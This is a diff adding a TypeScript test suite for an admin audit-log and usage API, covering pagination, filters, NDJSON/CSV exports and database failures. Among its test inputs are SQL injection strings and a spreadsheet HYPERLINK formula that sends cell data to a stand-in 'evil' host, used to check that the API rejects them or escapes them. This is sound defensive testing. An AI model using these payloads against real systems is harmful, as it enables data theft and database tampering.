@@ -1,0 +1,414 @@
+import { env } from "cloudflare:workers";
+import fc from "fast-check";
+import { beforeAll, describe, expect, it, vi } from "vitest";
+import type { AuditRecord } from "../../src/audit/record.ts";
+import { AUDIT_COLUMNS, insertAudit } from "../../src/audit/store.ts";
+import { newId } from "../../src/wire/ids.ts";
+import { auditRecord, call, database, problem, send } from "../admin/control-plane.ts";
+
+const store = (rows: readonly AuditRecord[]) =>
+  insertAudit(
+    env.DB,
+    rows.map((row) => JSON.stringify(row)),
+  );
+const NOON = Date.parse("2026-03-01T12:00:00Z");
+/** Records of one workspace, a minute apart, newest first. */
+const series = (workspace: string, count: number, changes: Partial<AuditRecord> = {}): AuditRecord[] =>
+  Array.from({ length: count }, (_, i) => auditRecord({ workspace, at: NOON - i * 60_000, ...changes }));
+const ids = (rows: readonly { request_id: string }[]) => rows.map((row) => row.request_id);
+const list = async (query: string) => {
+  const { status, body } = await call(`audit?${query}`);
+  expect(status).toBe(200);
+  return body;
+};
+/** The runtime warns of `text()` on types it does not know for text. */
+const textOf = async (response: Response) => new TextDecoder().decode(await response.arrayBuffer());
+const ndjson = async (query: string) => {
+  const text = await textOf(await send(`audit.ndjson?${query}`));
+  return text
+    .split("\n")
+    .slice(0, -1)
+    .map((line) => JSON.parse(line));
+};
+
+beforeAll(() => {
+  for (const level of ["log", "error"] as const) vi.spyOn(console, level).mockImplementation(() => {});
+});
+
+describe("insertAudit", () => {
+  it("knows every column of the table and no other", async () => {
+    const { results } = await env.DB.prepare("SELECT name FROM pragma_table_info('audit')").all<{ name: string }>();
+    expect(results.map((column) => column.name)).toEqual(AUDIT_COLUMNS);
+    expect(Object.keys(auditRecord()).sort()).toEqual([...AUDIT_COLUMNS].sort());
+  });
+
+  it("stores each field as it is, with one statement and one parameter", async () => {
+    const rows = [
+      auditRecord({ workspace: "ws_fields" }),
+      auditRecord({
+        workspace: "ws_fields",
+        at: Date.now() + 5,
+        upstream_request_id: null,
+        model: null,
+        model_requested: null,
+        ttfb_ms: null,
+        client: `'); DROP TABLE audit;-- "x" \\ \n 😀`,
+        stream: 0,
+        estimated: 1,
+      }),
+    ];
+    await store(rows);
+    const stored = await env.DB.prepare("SELECT * FROM audit WHERE workspace = 'ws_fields' ORDER BY request_id").all();
+    expect(stored.results).toEqual(rows);
+    const { statements, env: bindings } = database();
+    await insertAudit(
+      bindings.DB,
+      rows.map((row) => JSON.stringify(row)),
+    );
+    expect(statements.length).toBe(1);
+    expect(statements[0]?.match(/\?/g)?.length).toBe(1);
+  });
+
+  it("U-05 takes a record once, however often it comes, and keeps the first", async () => {
+    const rows = series("ws_twice", 20);
+    await store(rows);
+    await store(rows);
+    await store([...rows.slice(0, 3), ...rows.slice(0, 3)]);
+    const [first] = rows;
+    if (first) await store([{ ...first, status: 500, cost_micro_usd: 9 }]);
+    const { data } = await list("workspace=ws_twice");
+    expect(ids(data)).toEqual(ids(rows));
+    expect(data[0]).toMatchObject({ status: 200, cost_micro_usd: 100 });
+    await store([]);
+  });
+});
+
+describe("GET /admin/audit", () => {
+  it("answers rows with the names of the design, times and flags readable", async () => {
+    const record = auditRecord({ workspace: "ws_shown", at: NOON, estimated: 1 });
+    await store([record]);
+    const { data } = await list("workspace=ws_shown");
+    expect(data).toEqual([{ ...record, at: "2026-03-01T12:00:00.000Z", stream: true, estimated: true }]);
+  });
+
+  it("pages through every row once, newest first, whatever the size of the pages", async () => {
+    const rows = series("ws_pages", 31);
+    await store(rows);
+    await fc.assert(
+      fc.asyncProperty(fc.integer({ min: 1, max: 33 }), async (limit) => {
+        const seen: string[] = [];
+        let cursor = "";
+        do {
+          const body = await list(`workspace=ws_pages&limit=${limit}${cursor && `&cursor=${cursor}`}`);
+          expect(body.data.length).toBeLessThanOrEqual(limit);
+          expect(body.has_more).toBe(body.next_cursor !== null);
+          seen.push(...ids(body.data));
+          cursor = body.next_cursor ?? "";
+        } while (cursor);
+        expect(seen).toEqual(ids(rows));
+      }),
+      { numRuns: 10, examples: [[1], [30], [31], [32]] },
+    );
+  });
+
+  it("goes on where it was when newer rows arrive between two pages", async () => {
+    const rows = series("ws_moving", 10);
+    await store(rows);
+    const first = await list("workspace=ws_moving&limit=5");
+    await store([auditRecord({ workspace: "ws_moving", at: NOON + 1 })]);
+    const second = await list(`workspace=ws_moving&limit=5&cursor=${first.next_cursor}`);
+    expect(ids([...first.data, ...second.data])).toEqual(ids(rows));
+    expect(second.next_cursor).toBeNull();
+  });
+
+  it("takes 100 by default, 500 at most", async () => {
+    await store(series("ws_sizes", 101));
+    expect((await list("workspace=ws_sizes")).data.length).toBe(100);
+    expect((await list("workspace=ws_sizes&limit=500")).data.length).toBe(101);
+  });
+
+  it("filters by each field, and by several at once", async () => {
+    const key = newId("key", NOON);
+    const workspace = "ws_filter";
+    const odd: Partial<AuditRecord>[] = [
+      { key_id: key },
+      { model_requested: "alias-x", model: "claude-x" },
+      { status: 429 },
+      { outcome: "client_gone" },
+      { route: "/v1/models/:id" },
+      { session_id: "session 1" },
+    ];
+    const rows = odd.map((changes, i) => auditRecord({ workspace, at: NOON + i, ...changes }));
+    await store([...rows, auditRecord({ workspace: "ws_other", key_id: key })]);
+    const found = async (query: string) => ids((await list(`workspace=${workspace}&${query}`)).data);
+    const one = (i: number) => [rows[i]?.request_id];
+    expect(await found(`key=${key}`)).toEqual(one(0));
+    expect(await found("model=alias-x")).toEqual(one(1));
+    expect(await found("model=claude-x")).toEqual(one(1));
+    expect(await found("status=429")).toEqual(one(2));
+    expect(await found("outcome=client_gone")).toEqual(one(3));
+    expect(await found("route=/v1/models/:id")).toEqual(one(4));
+    expect(await found("session=session%201")).toEqual(one(5));
+    expect(await found(`key=${key}&status=429`)).toEqual([]);
+    expect((await list(`key=${key}`)).data.length).toBe(2);
+    expect((await found("")).length).toBe(6);
+  });
+
+  it("takes `from` inclusive and `to` exclusive, to the millisecond and in any time zone", async () => {
+    const rows = [2, 1, 0].map((i) => auditRecord({ workspace: "ws_times", at: NOON + i }));
+    await store(rows);
+    const found = async (query: string) => (await list(`workspace=ws_times&${query}`)).data.length;
+    expect(await found("from=2026-03-01T12:00:00Z")).toBe(3);
+    expect(await found("from=2026-03-01T12:00:00.001Z")).toBe(2);
+    expect(await found("to=2026-03-01T12:00:00.001Z")).toBe(1);
+    expect(await found("from=2026-03-01T12:00:00.001Z&to=2026-03-01T12:00:00.002Z")).toBe(1);
+    expect(await found("from=2026-03-01T17:30:00.001%2B05:30")).toBe(2);
+    expect(await found("from=2026-03-01T12:00:00.003Z")).toBe(0);
+    expect(await found("to=0000-01-01T00:00:00Z")).toBe(0);
+    expect(await found("from=0000-01-01T00:00:00Z&to=9999-12-31T23:59:59Z")).toBe(3);
+  });
+
+  it.each([
+    ["key=' UNION SELECT * FROM api_keys--", "key"],
+    ["key=key_x", "key"],
+    ["workspace=a%27b", "workspace"],
+    ["model=", "model"],
+    [`model=${"m".repeat(257)}`, "model"],
+    ["model=a%00b", "model"],
+    ["status=99", "status"],
+    ["status=600", "status"],
+    ["status=200 OR 1=1", "status"],
+    ["outcome=fine", "outcome"],
+    ["route=messages", "route"],
+    ["route=/v1/%25", "route"],
+    [`session=${"s".repeat(201)}`, "session"],
+    ["from=yesterday", "from"],
+    ["to=2026-02-30T00:00:00Z", "to"],
+    ["cursor=req_x", "cursor"],
+    ["limit=0", "limit"],
+    ["limit=1e9", "limit"],
+    ["limit=-1", "limit"],
+    ["user=' UNION SELECT 1--", "user"],
+    ["sort=id;--", "sort"],
+    ["order=(CASE WHEN 1 THEN 1 END)", "order"],
+    ["fields=*", "fields"],
+    ["status=200&status=200", "status"],
+  ])("Q-02 Q-03 refuses ?%.60s in lists and exports", async (query, name) => {
+    for (const path of ["audit", "audit.ndjson", "audit.csv"]) {
+      const answer = await call(`${path}?${query}`);
+      expect(problem(answer, 400, "invalid_request_error")).toMatch(new RegExp(`^${name}: `));
+    }
+  });
+
+  it("takes 500 rows at most; exports are not bound by that", async () => {
+    problem(await call("audit?limit=501"), 400, "invalid_request_error");
+    expect((await send("audit.ndjson?limit=501")).status).toBe(200);
+  });
+
+  it("Q-03 takes LIKE's and GLOB's marks for text", async () => {
+    await store(series("ws_like", 2, { session_id: "abc" }));
+    for (const session of ["a%25c", "a_c", "a*", "[a]bc"]) {
+      expect((await list(`workspace=ws_like&session=${session}`)).data).toEqual([]);
+    }
+  });
+});
+
+describe("exports", () => {
+  const rows = series("ws_export", 1_200);
+  beforeAll(() => store(rows));
+
+  it("hold all of 1,200 rows, newest first", async () => {
+    const response = await send("audit.ndjson?workspace=ws_export");
+    expect(Object.fromEntries(response.headers)).toMatchObject({
+      "content-type": "application/x-ndjson",
+      "content-disposition": 'attachment; filename="audit.ndjson"',
+      "cache-control": "no-store",
+    });
+    const text = await textOf(response);
+    expect(text.endsWith("\n")).toBe(true);
+    const lines = text.slice(0, -1).split("\n");
+    expect(ids(lines.map((line) => JSON.parse(line)))).toEqual(ids(rows));
+    expect(JSON.parse(lines[0] ?? "")).toEqual((await list("workspace=ws_export&limit=1")).data[0]);
+
+    const csv = await send("audit.csv?workspace=ws_export");
+    expect(csv.headers.get("content-type")).toBe("text/csv; charset=utf-8");
+    expect(csv.headers.get("content-disposition")).toBe('attachment; filename="audit.csv"');
+    const [head, ...cells] = (await csv.text()).slice(0, -2).split("\r\n");
+    expect(head).toBe(AUDIT_COLUMNS.join(","));
+    expect(cells.map((line) => line.split(",")[0])).toEqual(ids(rows));
+    expect(cells[0]?.split(",")[AUDIT_COLUMNS.indexOf("at")]).toBe("2026-03-01T12:00:00.000Z");
+    expect(cells[0]?.split(",")[AUDIT_COLUMNS.indexOf("stream")]).toBe("true");
+  });
+
+  it("honour filters, limit and cursor", async () => {
+    for (const limit of [1, 499, 500, 501, 1_000, 1_199, 1_200, 1_201]) {
+      expect(ids(await ndjson(`workspace=ws_export&limit=${limit}`))).toEqual(ids(rows.slice(0, limit)));
+    }
+    const from = new Date(NOON - 99 * 60_000).toISOString();
+    expect((await ndjson(`workspace=ws_export&from=${from}`)).length).toBe(100);
+    expect(ids(await ndjson(`workspace=ws_export&cursor=${rows[1_000]?.request_id}`))).toEqual(ids(rows.slice(1_001)));
+  });
+
+  it("of nothing are empty: no line, or the head alone", async () => {
+    expect(await textOf(await send("audit.ndjson?workspace=ws_none"))).toBe("");
+    expect(await (await send("audit.csv?workspace=ws_none")).text()).toBe(`${AUDIT_COLUMNS.join(",")}\r\n`);
+  });
+
+  it("fetch as the client reads, and stop when it leaves", async () => {
+    const { statements, env: bindings } = database();
+    const response = await send("audit.ndjson?workspace=ws_export", { env: bindings });
+    await new Promise((done) => setTimeout(done, 100));
+    expect(statements.length).toBeLessThanOrEqual(2);
+    const reader = response.body?.getReader();
+    expect((await reader?.read())?.done).toBe(false);
+    await reader?.cancel();
+    await new Promise((done) => setTimeout(done, 100));
+    expect(statements.length).toBeLessThanOrEqual(3);
+    expect(statements.every((sql) => sql.endsWith("LIMIT ?"))).toBe(true);
+  });
+
+  it("end torn and never as if complete when D1 fails on the way; before the first row it is a 503", async () => {
+    for (const path of ["audit.ndjson", "audit.csv"]) {
+      const torn = await send(`${path}?workspace=ws_export`, { env: database((_, nth) => nth === 3).env });
+      expect(torn.status).toBe(200);
+      const failure = await textOf(torn).then(
+        () => "complete",
+        (error) => String(error),
+      );
+      expect(failure).toContain("The database failed during the export.");
+      problem(await call(`${path}?workspace=ws_export`, { env: database(() => true).env }), 503, "api_error");
+    }
+    problem(await call("audit", { env: database(() => true).env }), 503, "api_error");
+    problem(await call("usage", { env: database(() => true).env }), 503, "api_error");
+  });
+
+  it("V-06 are safe to open in a spreadsheet; JSON is untouched", async () => {
+    const formula = '=HYPERLINK("http://evil/?"&A1,"x")';
+    await store([
+      auditRecord({ workspace: "ws_formula", client: formula, session_id: "+1", agent_id: "-1", model: "@x" }),
+    ]);
+    const csv = await (await send("audit.csv?workspace=ws_formula")).text();
+    expect(csv).toContain(`"'=HYPERLINK(""http://evil/?""&A1,""x"")"`);
+    for (const cell of [",'+1,", ",'-1,", ",'@x,"]) expect(csv).toContain(cell);
+    const [row] = await ndjson("workspace=ws_formula");
+    expect(row).toMatchObject({ client: formula, session_id: "+1", agent_id: "-1", model: "@x" });
+  });
+});
+
+describe("GET /admin/usage", () => {
+  const keyA = newId("key", NOON);
+  const keyB = newId("key", NOON + 1);
+  const DAY = 24 * 60 * 60 * 1_000;
+  const span = "from=2026-02-01T00:00:00Z&to=2026-03-02T00:00:00Z";
+  beforeAll(async () => {
+    const workspace = "ws_usage";
+    await store([
+      auditRecord({ workspace, key_id: keyA, at: NOON, cost_micro_usd: 5 }),
+      auditRecord({ workspace, key_id: keyA, at: NOON - DAY, cost_micro_usd: 7, model: "m2" }),
+      auditRecord({ workspace, key_id: keyB, at: NOON, cost_micro_usd: 1_000, status: 500, outcome: "error" }),
+      auditRecord({ workspace, key_id: keyB, at: NOON, cost_micro_usd: 1, outcome: "upstream_cut" }),
+      auditRecord({ workspace: "ws_usage_2", key_id: keyB, at: NOON, model: null, model_requested: "m3" }),
+    ]);
+  });
+  const usage = async (query: string) => (await call(`usage?${query}`)).body;
+
+  it("sums requests, errors, every kind of token and money, the dearest first", async () => {
+    const body = await usage(`workspace=ws_usage&${span}`);
+    expect(body).toEqual({
+      from: "2026-02-01T00:00:00.000Z",
+      to: "2026-03-02T00:00:00.000Z",
+      data: [
+        { key_id: keyB, requests: 2, errors: 2, cost_micro_usd: 1_001, ...tokens(2) },
+        { key_id: keyA, requests: 2, errors: 0, cost_micro_usd: 12, ...tokens(2) },
+      ],
+      has_more: false,
+      next_cursor: null,
+    });
+    expect(await usage(`workspace=ws_usage&group_by=key&${span}`)).toEqual(body);
+  });
+
+  const tokens = (requests: number) => ({
+    input_tokens: 10 * requests,
+    output_tokens: 5 * requests,
+    cache_creation_5m_input_tokens: requests,
+    cache_creation_1h_input_tokens: 2 * requests,
+    cache_read_input_tokens: 3 * requests,
+    thinking_tokens: 4 * requests,
+    web_search_requests: 6 * requests,
+    web_fetch_requests: 7 * requests,
+  });
+
+  it("groups by each name, and by several", async () => {
+    const groups = async (query: string, ...names: string[]) =>
+      (await usage(`${query}&${span}`)).data.map((row: Record<string, unknown>) => [
+        ...names.map((name) => row[name]),
+        row.cost_micro_usd,
+      ]);
+    expect(await groups("workspace=ws_usage&group_by=workspace", "workspace")).toEqual([["ws_usage", 1_013]]);
+    expect(await groups("workspace=ws_usage&group_by=model", "model")).toEqual([
+      ["claude-opus-5-5", 1_006],
+      ["m2", 7],
+    ]);
+    expect(await groups("workspace=ws_usage_2&group_by=model", "model")).toEqual([["m3", 100]]);
+    expect(await groups("workspace=ws_usage&group_by=day", "day")).toEqual([
+      ["2026-02-28", 7],
+      ["2026-03-01", 1_006],
+    ]);
+    expect(await groups(`key=${keyA}&group_by=day,key`, "day", "key_id")).toEqual([
+      ["2026-02-28", keyA, 7],
+      ["2026-03-01", keyA, 5],
+    ]);
+    expect(await groups(`key=${keyB}&group_by=key,workspace`, "key_id", "workspace")).toEqual([
+      [keyB, "ws_usage", 1_001],
+      [keyB, "ws_usage_2", 100],
+    ]);
+  });
+
+  it("looks back thirty days by default", async () => {
+    const now = Date.now();
+    const workspace = "ws_recent";
+    await store([1, 29, 31].map((days) => auditRecord({ workspace, at: now - days * DAY })));
+    const body = await usage(`workspace=${workspace}&group_by=workspace`);
+    expect(body.data[0].requests).toBe(2);
+    expect(Date.parse(body.to) - Date.parse(body.from)).toBe(30 * DAY);
+  });
+
+  it("adds up to the rows it was made of", async () => {
+    const rows = series("ws_sum", 200).map((row, i) => ({ ...row, model: `m${i % 7}`, cost_micro_usd: i * i }));
+    await store(rows);
+    for (const group of ["key", "workspace", "model", "day", "model,day", "workspace,key,model,day"]) {
+      const { data } = await usage(`workspace=ws_sum&group_by=${group}&${span}`);
+      const total = (name: string) =>
+        data.reduce((sum: number, row: Record<string, number>) => sum + (row[name] ?? 0), 0);
+      expect(total("requests")).toBe(200);
+      expect(total("cost_micro_usd")).toBe(rows.reduce((sum, row) => sum + row.cost_micro_usd, 0));
+    }
+  });
+
+  it("is bounded to 1,000 groups and says when it cut", async () => {
+    const many = (count: number, workspace: string) =>
+      store(series(workspace, count).map((row, i) => ({ ...row, model: `m${i}`, cost_micro_usd: i })));
+    await many(1_000, "ws_fit");
+    await many(1_001, "ws_cut");
+    const fit = await usage(`workspace=ws_fit&group_by=model&${span}`);
+    expect([fit.data.length, fit.has_more, fit.next_cursor]).toEqual([1_000, false, null]);
+    const cut = await usage(`workspace=ws_cut&group_by=model&${span}`);
+    expect([cut.data.length, cut.has_more, cut.next_cursor]).toEqual([1_000, true, null]);
+    expect(cut.data[0].model).toBe("m1000");
+  });
+
+  it.each([
+    ["group_by=", "group_by"],
+    ["group_by=name", "group_by"],
+    ["group_by=key,key", "group_by"],
+    ["group_by=key;--", "group_by"],
+    ["from=x", "from"],
+    ["to=x", "to"],
+    ["key=x", "key"],
+    ["workspace='", "workspace"],
+    ["limit=5", "limit"],
+  ])("Q-02 refuses ?%s", async (query, name) => {
+    const answer = await call(`usage?${query}`);
+    expect(problem(answer, 400, "invalid_request_error")).toMatch(new RegExp(`^${name}: `));
+  });
+});
